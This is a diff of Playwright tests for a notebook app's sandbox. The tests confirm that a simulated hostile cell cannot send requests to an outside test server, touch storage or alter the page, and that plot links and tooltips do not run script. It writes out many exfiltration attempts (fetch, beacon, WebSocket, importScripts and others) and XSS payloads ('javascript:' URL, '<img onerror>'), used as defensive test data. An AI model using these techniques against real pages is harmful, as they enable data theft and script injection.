@@ -1,7 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, test } from '@playwright/test';
-import { openNotebook, serveNotebook } from './notebook-page.ts';
+import { cell, expectBadge, openNotebook, serveNotebook, showView } from './notebook-page.ts';
 
 /** A server elsewhere that must never hear of us. */
 let server: Server;
@@ -125,4 +125,81 @@ test("the kernel's frame has no origin and no name for the page", async ({ page 
   await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
   const kernel = page.frames().find((one) => one.url().endsWith('/kernel.html'));
   expect(await kernel?.evaluate(() => self.origin)).toBe('null');
+});
+
+/** Each does something outside its worker when it can. `there` is a server that must not hear of it. */
+const reaches = (there: string): string => `
+  const reaches = {
+    fetch: () => fetch('${there}/fetch'),
+    own: () => fetch('/stolen'),
+    request: () => { const r = new XMLHttpRequest(); r.open('GET', '${there}/request'); r.send() },
+    hidden: () => { for (let o = self; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) o.fetch.call(self, '${there}/hidden') },
+    beacon: () => navigator.sendBeacon('${there}/beacon'),
+    socket: () => new WebSocket('${there.replace('http', 'ws')}/socket'),
+    events: () => new EventSource('${there}/events'),
+    scripts: () => importScripts('${there}/scripts'),
+    worker: () => new Worker('${there}/worker'),
+    blob: () => new Worker(URL.createObjectURL(new Blob(["fetch('${there}/blob')"]))),
+    image: () => { const image = new Image(); image.src = '${there}/image' },
+    database: () => indexedDB.open('stolen'),
+    caches: () => caches.open('stolen'),
+    storage: () => { localStorage.setItem('stolen', '1') },
+    channel: () => new BroadcastChannel('rehearsal').postMessage({ id: 'hostile.sim.md', version: 99 }),
+    page: () => { parent.document.title = 'stolen' },
+    top: () => { top.location = '${there}/top' },
+    opens: () => open('${there}/opens'),
+    message: () => postMessage({ type: 'stolen', stolen: true }),
+  };
+  for (const reach of Object.values(reaches)) { try { Promise.resolve(reach()).catch(() => {}) } catch {} }
+  return 'tried all';
+`;
+
+test('whatever a hostile cell does, nothing leaves its worker: no request, no storage, no word to the page', async ({
+  page,
+}) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await serveNotebook(page, 'hostile.sim.md', hostile(reaches(elsewhere)));
+  await openNotebook(page, 'hostile.sim.md');
+  await showView(page, 'State');
+  await expect(page.getByRole('table', { name: 'thief' })).toContainText('tried all');
+  // What was asked for before this would be heard before this.
+  await fetch(`${elsewhere}/fence`);
+  expect(heard).toEqual(['/fence']);
+  expect(asked.filter((url) => url.startsWith(elsewhere) || url.includes('stolen'))).toEqual([]);
+
+  const kept = await page.evaluate(async () => ({
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    caches: await caches.keys(),
+    local: Object.keys(localStorage),
+    title: document.title,
+  }));
+  expect(JSON.stringify(kept)).not.toContain('stolen');
+  await expect(page.getByText('changed in another tab')).toHaveCount(0);
+  await expect(page).toHaveURL(/hostile/);
+  // And the page still does its work.
+  await expectBadge(page, 'rules attack', 'live');
+});
+
+test('a link in a plot leads nowhere, and its texts are text', async ({ page }) => {
+  const trap = "[{ x: 1, y: 1, u: 'javascript:window.stolen=1', t: '<img src=x onerror=\"window.stolen=1\">' }]";
+  const text = `${hostile("return ''")}
+\`\`\`ts plot trap
+Plot.plot({ marks: [
+  Plot.dot(${trap}, { x: 'x', y: 'y', r: 20, fill: 'red', href: 'u', title: 't', tip: true }),
+  Plot.text(${trap}, { x: 'x', y: 'y', text: 't', href: 'u' }),
+] })
+\`\`\`
+`;
+  await serveNotebook(page, 'hostile.sim.md', text);
+  await openNotebook(page, 'hostile.sim.md');
+  const plot = cell(page, 'plot trap');
+  await plot.scrollIntoViewIfNeeded();
+  const dot = plot.locator('svg [aria-label="dot"] circle');
+  await expect(dot).toBeVisible();
+  const url = page.url();
+  await dot.click({ force: true });
+  expect(page.url()).toBe(url);
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
+  await expect(page.locator('rh-plot a[href], rh-plot [href^="javascript:"], rh-plot img')).toHaveCount(0);
 });
